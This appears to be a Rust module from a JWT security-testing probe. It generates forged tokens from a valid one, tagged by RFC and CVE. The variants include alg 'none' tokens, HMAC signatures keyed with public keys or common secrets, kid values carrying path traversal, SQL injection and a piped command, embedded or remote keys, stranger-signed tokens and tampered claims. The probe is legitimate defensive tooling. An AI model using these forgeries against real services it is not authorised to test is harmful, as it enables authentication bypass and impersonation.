//! Tokens made of the good one without its key.

use serde_json::{Value, json};

use super::{forms, signatures};
use crate::probe::attempt::{Class, Sink, TokenCase, Weight};
use crate::probe::forge::{Stranger, encode, hmac, with, with_text, without};
use crate::probe::target::GoodToken;

/// Every token that can be made of a good one without its key, and the good one in forms that are none of a token.
/// `public` are the bytes that everybody can have, to be tried as secrets.
#[must_use]
pub fn tokens(good: &GoodToken, public: &[(String, Vec<u8>)]) -> Vec<TokenCase> {
    let mut sink = Sink::default();
    signatures::cases(good, &mut sink);
    unsigned(good, &mut sink);
    symmetric(good, public, &mut sink);
    other_headers(good, &mut sink);
    // Without randomness there is no stranger, and nothing could be connected to by TLS either.
    if let Ok(stranger) = Stranger::new() {
        strangers(good, &stranger, &mut sink);
    }
    other_claims(good, &mut sink);
    forms::cases(good, &mut sink);
    sink.0
}

fn unsigned(good: &GoodToken, sink: &mut Sink) {
    let [_, claims, signature] = &good.parts;
    let nones = ["none", "None", "NONE", "nOnE", "none ", " none", "", "null", "n", "nonE", "NULL", "false", "0"];
    let texts = nones.iter().map(|none| (format!("{none:?}"), with(&good.header, "alg", json!(none)).to_string()));
    let values = [Value::Null, json!(false), json!(0), json!([]), json!(["none"]), json!({})];
    let values = values.into_iter().map(|value| (value.to_string(), with(&good.header, "alg", value).to_string()));
    let escaped = with_text(&without(&good.header, "alg"), r#""alg":"\u006eone""#);
    let twice = with_text(&good.header, r#""alg":"none""#);
    let text = good.header.to_string();
    let last = format!("{},\"alg\":\"none\"}}", text.strip_suffix('}').unwrap_or(&text));
    let more = [
        ("none, written with an escape".to_owned(), escaped),
        ("none, and then the good one".to_owned(), twice),
        ("the good one, and then none".to_owned(), last),
        ("none under the name ALG".to_owned(), with(&without(&good.header, "alg"), "ALG", json!("none")).to_string()),
        ("there is none".to_owned(), without(&good.header, "alg").to_string()),
        ("there is nothing in the header".to_owned(), "{}".to_owned()),
    ];
    for (what, header) in texts.chain(values).chain(more) {
        let head = encode(&header);
        let class = Class::Algorithm;
        let what = |with: &str| format!("alg: {what}; {with}");
        sink.token(class, "RFC 8725 2.1", what("no signature"), Weight::Bypass, &format!("{head}.{claims}."));
        sink.token(
            class,
            "CVE-2015-9235",
            what("the old signature"),
            Weight::Bypass,
            &format!("{head}.{claims}.{signature}"),
        );
    }
    let plain = encode(json!({"alg": "none"}).to_string());
    sink.token(
        Class::Algorithm,
        "RFC 7519 6",
        "an unsecured JWT".into(),
        Weight::Bypass,
        &format!("{plain}.{claims}."),
    );
    sink.token(
        Class::Algorithm,
        "RFC 7519 6",
        "an unsecured JWT without its last period".into(),
        Weight::Bypass,
        &format!("{plain}.{claims}"),
    );
}

fn symmetric(good: &GoodToken, public: &[(String, Vec<u8>)], sink: &mut Sink) {
    let claims = &good.parts[1];
    let mut add = |source, what: String, header: &Value, alg: &str, secret: &[u8]| {
        sink.token(Class::Algorithm, source, what, Weight::Bypass, &hmac(header, alg, claims, secret));
    };
    for (name, secret) in public {
        for alg in HMACS {
            add("CVE-2016-5431", format!("{alg} with {name}"), &good.header, alg, secret);
        }
        add("CVE-2016-5431", format!("HS256 with {name}, without kid"), &without(&good.header, "kid"), "HS256", secret);
    }
    for secret in GUESSES {
        add("RFC 8725 2.2", format!("HS256 with the secret {secret:?}"), &good.header, "HS256", secret.as_bytes());
    }
    for alg in HMACS {
        add("RFC 8725 2.2", format!("{alg} with 32 zeros"), &good.header, alg, &[0; 32]);
    }
    let kid = good.header.get("kid").and_then(Value::as_str).unwrap_or_default().to_owned();
    let issuer = good.claims.get("iss").and_then(Value::as_str).unwrap_or_default().to_owned();
    add("own", "HS256 with the kid".into(), &good.header, "HS256", kid.as_bytes());
    add("own", "HS256 with the issuer's name".into(), &good.header, "HS256", issuer.as_bytes());
    let kids = [
        ("a path to an empty file", "../../../../../../dev/null", &b""[..]),
        ("an absolute path to an empty file", "/dev/null", b""),
        ("a URL of an empty file", "file:///dev/null", b""),
        ("SQL that selects a key", "x' UNION SELECT 'key", b"key"),
        ("a command", "key|echo key", b"key"),
        ("nothing", "", b""),
    ];
    for (what, kid, secret) in kids {
        let header = with(&good.header, "kid", json!(kid));
        add("RFC 8725 3.10", format!("HS256, and kid is {what}"), &header, "HS256", secret);
    }
    let jwk = with(&good.header, "jwk", json!({"kty": "oct", "k": encode("key")}));
    add("CVE-2018-0114", "HS256 with an embedded symmetric jwk".into(), &jwk, "HS256", b"key");
}

fn other_headers(good: &GoodToken, sink: &mut Sink) {
    let [_, claims, signature] = &good.parts;
    let mut add = |source, what: String, header: &str| {
        let token = format!("{}.{claims}.{signature}", encode(header));
        sink.token(Class::Header, source, what, Weight::Bypass, &token);
    };
    let own = good.header.get("alg").and_then(Value::as_str).unwrap_or_default();
    for alg in ALGORITHMS.iter().filter(|alg| **alg != own) {
        add("RFC 8725 3.1", format!("alg says {alg}"), &with(&good.header, "alg", json!(alg)).to_string());
    }
    let members = [
        ("RFC 7515 4.1.11", "crit", json!(["exp"])),
        ("RFC 7515 4.1.11", "crit", json!([])),
        ("RFC 7797 3", "b64", json!(false)),
        ("RFC 7516 4.1.3", "zip", json!("DEF")),
        ("RFC 8725 3.11", "typ", json!("logout+jwt")),
        ("RFC 8725 3.11", "typ", json!("dpop+jwt")),
        ("RFC 7519 5.2", "cty", json!("JWT")),
        ("RFC 8725 3.10", "jku", json!(ELSEWHERE)),
        ("RFC 8725 3.10", "x5u", json!(ELSEWHERE)),
        ("RFC 7515 4.1.6", "x5c", json!(["MIIB"])),
        ("RFC 7515 4.1.4", "kid", json!("another")),
        ("RFC 7515 4.1.4", "kid", json!(1)),
        ("RFC 7515 4.1.4", "kid", Value::Null),
        ("own", "x", json!("y".repeat(4096))),
    ];
    for (source, name, value) in members {
        let shown = value.to_string();
        let shown = if shown.len() > 60 { "4 KiB".to_owned() } else { shown };
        add(source, format!("{name}: {shown}"), &with(&good.header, name, value).to_string());
    }
    let kid = good.header.get("kid").cloned().unwrap_or_default();
    add("RFC 7515 4", "kid twice".into(), &with_text(&good.header, &format!("\"kid\":{kid}")));
    add("RFC 7515 4", "alg twice".into(), &with_text(&good.header, &format!("\"alg\":\"{own}\"")));
    add("RFC 7515 5.2", "a space more".into(), &format!("{} ", good.header));
    add("RFC 7515 5.2", "no JSON".into(), "header");
    add("RFC 7515 5.2", "a list".into(), &format!("[{}]", good.header));
    add("RFC 7515 5.2", "nothing".into(), "");
    add("RFC 8725 3.7", "a byte order mark before it".into(), &format!("\u{feff}{}", good.header));
    add(
        "own",
        "nested a thousand deep".into(),
        &format!("{{\"alg\":\"{own}\",\"x\":{}{}}}", "[".repeat(1000), "]".repeat(1000)),
    );
}

/// A good signature, but by somebody whom nobody trusts.
fn strangers(good: &GoodToken, stranger: &Stranger, sink: &mut Sink) {
    let claims = &good.parts[1];
    let jwk = stranger.jwk();
    let kid = good.header.get("kid").cloned().unwrap_or_default();
    let named = with(&jwk, "kid", kid);
    let headers = [
        ("RFC 7515 5.2", "the good kid", good.header.clone()),
        ("RFC 7515 5.2", "no kid", without(&good.header, "kid")),
        ("RFC 7515 5.2", "another kid", with(&good.header, "kid", json!("another"))),
        ("CVE-2018-0114", "its jwk embedded", with(&good.header, "jwk", jwk.clone())),
        ("CVE-2018-0114", "its jwk embedded under the good kid", with(&good.header, "jwk", named.clone())),
        ("CVE-2018-0114", "its jwk embedded, without kid", with(&without(&good.header, "kid"), "jwk", jwk.clone())),
        ("CVE-2018-0114", "a key set embedded as jwk", with(&good.header, "jwk", json!({"keys": [named]}))),
        ("RFC 8725 3.10", "jku to a set", with(&good.header, "jku", json!(ELSEWHERE))),
        (
            "RFC 8725 3.10",
            "jku with a data URL",
            with(&good.header, "jku", json!(format!("data:application/json,{jwk}"))),
        ),
        ("RFC 8725 3.10", "x5u to a certificate", with(&good.header, "x5u", json!(ELSEWHERE))),
        ("RFC 7515 4.1.6", "x5c with what is no certificate", with(&good.header, "x5c", json!(["MIIB"]))),
    ];
    for (source, what, header) in headers {
        if let Ok(token) = stranger.sign(&header, claims) {
            sink.token(Class::Header, source, format!("signed by a stranger, with {what}"), Weight::Bypass, &token);
        }
    }
}

fn other_claims(good: &GoodToken, sink: &mut Sink) {
    let [header, _, signature] = &good.parts;
    let mut add = |source, what: &str, claims: &str| {
        let token = format!("{header}.{}.{signature}", encode(claims));
        sink.token(Class::Claims, source, format!("{what}, under the old signature"), Weight::Bypass, &token);
    };
    let later = json!(4_102_444_800_u64);
    add("RFC 7515 5.2", "another sub", &with(&good.claims, "sub", json!("probe-forged-caller")).to_string());
    add("RFC 7515 5.2", "another iss", &with(&good.claims, "iss", json!("https://probe.invalid")).to_string());
    add("RFC 7515 5.2", "another aud", &with(&good.claims, "aud", json!("another")).to_string());
    add("RFC 7515 5.2", "a later exp", &with(&good.claims, "exp", later).to_string());
    add("RFC 7515 5.2", "no exp", &without(&good.claims, "exp").to_string());
    add("RFC 7515 5.2", "no aud", &without(&good.claims, "aud").to_string());
    add("RFC 7515 5.2", "one claim more", &with(&good.claims, "scope", json!("admin")).to_string());
    add("RFC 7519 4", "sub twice, the forged one first", &with_text(&good.claims, r#""sub":"probe-forged-caller""#));
    let text = good.claims.to_string();
    let body = text.strip_suffix('}').unwrap_or(&text);
    add("RFC 7519 4", "sub twice, the forged one last", &format!("{body},\"sub\":\"probe-forged-caller\"}}"));
    add("RFC 7519 4", "exp twice", &format!("{body},\"exp\":4102444800}}"));
    add("RFC 7515 5.2", "a space more", &format!("{text} "));
    add("RFC 7519 7.2", "no claims", "{}");
    add("RFC 7519 7.2", "a list", &format!("[{text}]"));
    add("RFC 7519 7.2", "null", "null");
    add("RFC 7519 7.2", "nothing", "");
    add("own", "64 KiB of claims", &with(&good.claims, "x", json!("y".repeat(48 * 1024))).to_string());
}

const HMACS: [&str; 3] = ["HS256", "HS384", "HS512"];

const GUESSES: [&str; 10] =
    ["", "secret", "password", "key", "jwt", "changeme", "123456", "your-256-bit-secret", "null", "undefined"];

const ALGORITHMS: [&str; 13] = [
    "RS256",
    "RS384",
    "RS512",
    "PS256",
    "PS384",
    "PS512",
    "ES256",
    "ES384",
    "ES512",
    "EdDSA",
    "Ed25519",
    "ES256K",
    "ML-DSA-44",
];

/// A place that does not exist (RFC 2606): nobody is asked for anything.
const ELSEWHERE: &str = "https://probe.invalid/jwks.json";
